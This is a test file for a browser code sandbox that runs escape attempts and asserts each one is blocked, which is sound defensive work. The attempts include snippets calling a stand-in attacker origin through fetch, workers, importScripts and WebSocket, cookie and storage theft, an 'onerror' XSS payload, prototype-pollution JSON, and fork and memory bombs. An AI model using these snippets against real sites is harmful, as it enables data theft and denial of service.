// Sandbox escapes, judged by evidence, not by the snippet's own report: an "attacker" server
// on another loopback origin (127.0.0.2, cross-site to the page on 127.0.0.1) logs every TCP
// connection and request; the page's storage, DOM, URL, window and BroadcastChannel are
// compared before and after; resource attacks must end with a clear reason while the page
// keeps drawing frames. A control test proves the instruments see an unsandboxed attack.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, type RunReport, logText, startHarness } from '../fixtures/sandbox/harness';

let h: Harness;
let baseline: unknown;
let tagSeq = 0;

type Snapshot = Record<string, unknown>;
const snapshot = () => h.page.evaluate(() => (window as unknown as { sandbox: { snapshot(): Promise<Snapshot> } }).sandbox.snapshot());
const frames = () => h.page.evaluate(() => (window as unknown as { sandbox: { frames(): number } }).sandbox.frames());

beforeAll(async () => {
  h = await startHarness();
  baseline = await snapshot();
});
afterAll(async () => {
  await h?.close();
});

/** Run `attack` (built from a unique URL prefix on the attacker and the deck origin) and collect the evidence. */
async function attempt(attack: (t: string, deck: string) => string | { js: string }, timeoutMs = 2000) {
  const tag = `atk${++tagSeq}`;
  const attackerBefore = h.attackerHits.length;
  const deckBefore = h.deckHits.length;
  const r = await h.run(attack(`${h.attackerOrigin}/${tag}`, `${h.deckOrigin}/exfil-${tag}`), { timeoutMs });
  await h.page.waitForTimeout(300); // late requests (beacons, nested workers) still count
  return {
    r,
    attackerHits: h.attackerHits.slice(attackerBefore),
    deckHits: h.deckHits.slice(deckBefore),
    after: await snapshot(),
  };
}

function expectNoEffect(e: Awaited<ReturnType<typeof attempt>>): void {
  expect(e.attackerHits, 'requests/connections reaching the attacker').toEqual([]);
  expect(e.deckHits, 'requests reaching the deck origin').toEqual([]);
  expect(e.after, 'page state (URL, DOM, storage, messages)').toEqual(baseline);
  const text = logText(e.r).join('\n') + JSON.stringify(e.r.end);
  expect(text).not.toContain('deck-secret');
  expect(text).not.toContain('REMOTE CODE RAN');
}

const wait = (ms: number) => `await new Promise((r) => setTimeout(r, ${ms}));`;

const NETWORK: Array<[string, (t: string, deck: string) => string | { js: string }]> = [
  [
    'fetch (cors, no-cors, keepalive POST, Request)',
    (t) => `
      await fetch('${t}/fetch').catch(() => {});
      await fetch('${t}/no-cors', { mode: 'no-cors' }).catch(() => {});
      await fetch(new Request('${t}/post', { method: 'POST', body: 'x', keepalive: true })).catch(() => {});`,
  ],
  [
    'XMLHttpRequest (sync and async)',
    (t) => `
      try { const x = new XMLHttpRequest(); x.open('GET', '${t}/xhr-sync', false); x.send(); } catch {}
      await new Promise<void>((res) => {
        try { const x = new XMLHttpRequest(); x.open('GET', '${t}/xhr-async'); x.onloadend = () => res(); x.send(); } catch { res(); }
      });`,
  ],
  [
    'WebSocket',
    (t) => `
      await new Promise<void>((res) => {
        try { const ws = new WebSocket('${t.replace('http:', 'ws:')}/ws'); ws.onopen = ws.onerror = ws.onclose = () => res(); } catch { res(); }
        setTimeout(res, 500);
      });`,
  ],
  [
    'EventSource',
    (t) => `
      await new Promise<void>((res) => {
        try { const es = new EventSource('${t}/sse'); es.onopen = es.onerror = () => { es.close(); res(); }; } catch { res(); }
        setTimeout(res, 500);
      });`,
  ],
  ['importScripts of a remote script', (t) => `try { importScripts('${t}/import-scripts.js'); } catch {}`],
  [
    'dynamic import() (raw JS, not rewritten by the transpiler)',
    (t) => ({ js: `await import('${t}/dynamic-import.js').catch(() => {});` }),
  ],
  [
    'import() hidden in a blob script loaded by importScripts',
    (t) => `
      try { importScripts(URL.createObjectURL(new Blob(["import('${t}/blob-import.js').catch(() => {})"]))); } catch {}
      ${wait(300)}`,
  ],
  [
    'FontFace',
    (t) => `
      try { const f = new FontFace('x', 'url(${t}/font.woff2)'); (self as any).fonts?.add(f); await f.load().catch(() => {}); } catch {}`,
  ],
  [
    'nested Workers (blob worker that fetches and imports, remote worker URL, SharedWorker)',
    (t) => `
      try { new Worker(URL.createObjectURL(new Blob(["fetch('${t}/nested-fetch').catch(() => {}); try { importScripts('${t}/nested.js'); } catch {}"]))); } catch {}
      try { new Worker('${t}/remote-worker.js'); } catch {}
      try { new (self as any).SharedWorker(URL.createObjectURL(new Blob(["fetch('${t}/shared').catch(() => {})"]))); } catch {}
      ${wait(400)}`,
  ],
  [
    'sendBeacon / fetchLater (if present)',
    (t) => `
      try { (navigator as any).sendBeacon?.('${t}/beacon', 'x'); } catch {}
      try { (self as any).fetchLater?.('${t}/fetch-later'); } catch {}`,
  ],
  [
    'the deck origin itself (fetch with cookies, importScripts, Worker)',
    (_t, deck) => `
      await fetch('${deck}/fetch', { credentials: 'include' }).then((r) => r.text()).then((s) => console.log(s)).catch(() => {});
      try { importScripts('${deck}/import.js'); } catch {}
      try { new Worker('${deck}/worker.js'); } catch {}
      ${wait(200)}`,
  ],
];

describe('sandbox escapes: network', () => {
  it('control: the same fetch from an unsandboxed Blob Worker on the page reaches the attacker and the deck storage', async () => {
    const before = h.attackerHits.length;
    const url = `${h.attackerOrigin}/control`;
    await h.page.evaluate(async (u) => {
      const code = `fetch('${u}').finally(() => indexedDB.open('control-db').onsuccess = (e) => { e.target.result.close(); postMessage('ok'); });`;
      const w = new Worker(URL.createObjectURL(new Blob([code])));
      await new Promise((r) => (w.onmessage = r));
      w.terminate();
    }, url);
    expect(h.attackerHits.slice(before).filter((x) => x.url.includes('/control')).length).toBeGreaterThan(0);
    expect(((await snapshot()) as { indexedDB: string[] }).indexedDB).toContain('control-db');
    await h.page.evaluate(() => new Promise((r) => (indexedDB.deleteDatabase('control-db').onsuccess = r)));
    expect(await snapshot()).toEqual(baseline);
  });

  for (const [name, attack] of NETWORK) {
    it(`blocks ${name}`, async () => {
      const e = await attempt(attack);
      expectNoEffect(e);
      expect(['done', 'error']).toContain(e.r.end.kind);
    });
  }
});

describe('sandbox escapes: storage, DOM, navigation, forged messages', () => {
  it('cannot create or read IndexedDB, Cache Storage, localStorage or cookies of the page', async () => {
    const e = await attempt(
      () => `
      const out: string[] = [];
      const tryIt = async (name: string, f: () => unknown) => { try { out.push(name + ': ' + String(await f())); } catch (err) { out.push(name + ' blocked'); } };
      await tryIt('idb create', () => new Promise((res, rej) => { const q = indexedDB.open('pwned-idb'); q.onsuccess = () => res('created'); q.onerror = () => rej(q.error); }));
      await tryIt('idb read', () => new Promise((res, rej) => { const q = indexedDB.open('deckdb'); q.onsuccess = () => res(q.result.objectStoreNames.length); q.onerror = () => rej(q.error); }));
      await tryIt('caches', async () => (await (self as any).caches.open('pwned-cache')).put('/x', new Response('x')));
      await tryIt('localStorage', () => (self as any).localStorage.getItem('secret'));
      await tryIt('cookie', () => (self as any).document.cookie);
      await tryIt('cookieStore', () => (self as any).cookieStore.getAll());
      console.log(out.join('; '));`,
    );
    expectNoEffect(e);
  });

  it('cannot touch the page DOM, navigate, or post to the page window or its BroadcastChannel', async () => {
    const e = await attempt(
      () => `
      try { (self as any).parent?.document?.body?.remove(); } catch {}
      try { (self as any).top.location = 'about:blank'; } catch {}
      try { (self as any).location.href = 'about:blank'; } catch {}
      try { new BroadcastChannel('deck-bus').postMessage('forged'); } catch {}
      try { (self as any).parent?.postMessage('forged', '*'); } catch {}
      try { (self as any).open?.('about:blank'); } catch {}`,
    );
    expectNoEffect(e);
  });

  it('forged protocol messages end the run with a limit, never reach the page', async () => {
    const killedByShell = await attempt(() => ({
      js: `postMessage({ kind: 'killed', reason: 'stopped', message: '<img src=x onerror=alert(1)>' }); for (;;) {}`,
    }));
    expect(killedByShell.r.end).toMatchObject({
      kind: 'killed',
      reason: 'limit',
      message: 'Stopped: the snippet sent a message of unknown kind.',
    });
    const badTrace = await attempt(() => ({
      js: `postMessage({ kind: 'plot', id: 'p', traces: [{ type: 'pie', values: [1] }] }); for (;;) {}`,
    }));
    expect(badTrace.r.end).toMatchObject({ kind: 'killed', reason: 'limit' });
    expect(JSON.stringify(badTrace.r.end)).toContain('traces[0].type');
    expectNoEffect(killedByShell);
    expectNoEffect(badTrace);
  });

  it('plot specs arrive rebuilt: __proto__ / constructor keys and unknown fields are gone', async () => {
    const e = await attempt(() => ({
      js: `postMessage(JSON.parse('{"kind":"plot","id":"p","traces":[{"y":[1,2],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"onclick":"alert(1)"}],"layout":{"title":"t","__proto__":{"polluted":1}}}'));`,
    }));
    expectNoEffect(e);
    const plot = e.r.messages.find((m) => m.kind === 'plot');
    expect(plot).toEqual({ kind: 'plot', id: 'p', traces: [{ type: 'scatter', y: [1, 2] }], layout: { title: 't' } });
  });
});

describe('sandbox escapes: resource attacks end with a clear reason and the page stays alive', () => {
  async function expectAlive(): Promise<void> {
    const f0 = await frames();
    await h.page.waitForTimeout(200);
    expect(await frames()).toBeGreaterThan(f0);
    const next = await h.run("console.log('next')");
    expect(logText(next)).toEqual(['next']);
    expect(await snapshot()).toEqual(baseline);
  }

  it('message flood (raw postMessage) → killed for the message count within a second', async () => {
    const { r } = await attempt(() => ({ js: `for (;;) postMessage({ kind: 'log', level: 'log', parts: ['flood'] });` }));
    expect(r.end).toMatchObject({ kind: 'killed', reason: 'limit' });
    expect((r.end as { message: string }).message).toMatch(/more than \d+ messages/);
    expect(r.ms).toBeLessThan(1000);
    await expectAlive();
  });

  it('console flood → logs capped with a notice, then the time limit', async () => {
    const { r } = await attempt(() => `for (;;) console.log('x'.repeat(3000));`, 1500);
    expect(r.end).toMatchObject({ kind: 'killed', reason: 'timeout' });
    const logs = logText(r);
    expect(logs.length).toBe(301);
    expect(logs.at(-1)).toMatch(/more than 300 log messages/);
    await expectAlive();
  });

  // 16 MB, not 128 MB: cloning 128 MB into the iframe took its thread long enough that a loaded
  // 2-core machine read it as a hang (reason `unresponsive`); 16 MB is still far over the cap.
  it('huge message (a 16 MB string; a 5M-point plot) → killed for size, no serialising', async () => {
    const big = await attempt(() => ({
      js: `postMessage({ kind: 'log', level: 'log', parts: ['x'.repeat(16 * 1024 * 1024)] }); for (;;) {}`,
    }));
    expect(big.r.end).toMatchObject({ kind: 'killed', reason: 'limit' });
    expect((big.r.end as { message: string }).message).toMatch(/longer than \d+ characters/);
    const points = await attempt(() => ({
      js: `postMessage({ kind: 'plot', id: 'p', traces: [{ y: new Float64Array(5e6) }] }); for (;;) {}`,
    }));
    expect(points.r.end).toMatchObject({ kind: 'killed', reason: 'limit' });
    expect((points.r.end as { message: string }).message).toMatch(/more than 100000 points/);
    await expectAlive();
  });

  it('memory bomb → killed at the time limit; the page survives', async () => {
    const { r } = await attempt(() => `const keep: number[][] = []; for (;;) keep.push(new Array(1e6).fill(1.5));`, 1500);
    expect(r.end.kind).toBe('killed');
    expect(['timeout', 'unresponsive']).toContain((r.end as { reason: string }).reason);
    await expectAlive();
  });

  it('fork bomb of nested spinning workers → killed at the time limit, children die with it', async () => {
    const { r } = await attempt(
      () => `for (let i = 0; i < 40; i++) new Worker(URL.createObjectURL(new Blob(['for (;;) {}']))); for (;;) {}`,
      1500,
    );
    expect(r.end).toMatchObject({ kind: 'killed', reason: 'timeout' });
    await expectAlive();
  });

  it('deep recursion → a RangeError at its line', async () => {
    const { r } = await attempt(() => `const f = (n: number): number => f(n + 1) + 1;\nf(0);`);
    expect(r.end).toMatchObject({ kind: 'error', message: 'RangeError: Maximum call stack size exceeded', line: 1 });
  });

  it('a crashed sandbox process is noticed and rebuilt; the run ends as unresponsive and the next run works', async () => {
    // Playwright marks a whole page as crashed when any of its frames' processes dies, so this
    // uses a page of its own and talks to it over raw CDP.
    const page = await h.page.context().browser()!.newPage();
    try {
      await page.goto(h.fixtureUrl);
      await page.waitForFunction(() => document.documentElement.dataset.ready === 'true');
      const cdp = await page.context().newCDPSession(page);
      const evaluate = async (expression: string) =>
        ((await cdp.send('Runtime.evaluate', { expression, awaitPromise: true, returnByValue: true })).result as { value: unknown }).value;
      await evaluate(`sandbox.host.prewarm().then(() => { window.crashRun = sandbox.run('while (true) {}', { timeoutMs: 20000 }); })`);
      await page.waitForTimeout(300);
      const sandboxFrame = page.frames().find((f) => f !== page.mainFrame());
      expect(sandboxFrame).toBeDefined();
      const frameCdp = await page.context().newCDPSession(sandboxFrame!);
      await frameCdp.send('Page.crash').catch(() => {});
      const r = (await evaluate('window.crashRun')) as RunReport;
      expect(r.end).toMatchObject({ kind: 'killed', reason: 'unresponsive' });
      expect(r.ms).toBeLessThan(5000);
      const next = (await evaluate(`sandbox.run("console.log('after crash')")`)) as RunReport;
      expect(logText(next)).toEqual(['after crash']);
      console.log(`sandbox crash detected after ${(r.ms - 300).toFixed(0)} ms; next run ${next.ms.toFixed(0)} ms`);
    } finally {
      await page.close().catch(() => {});
    }
  });
});
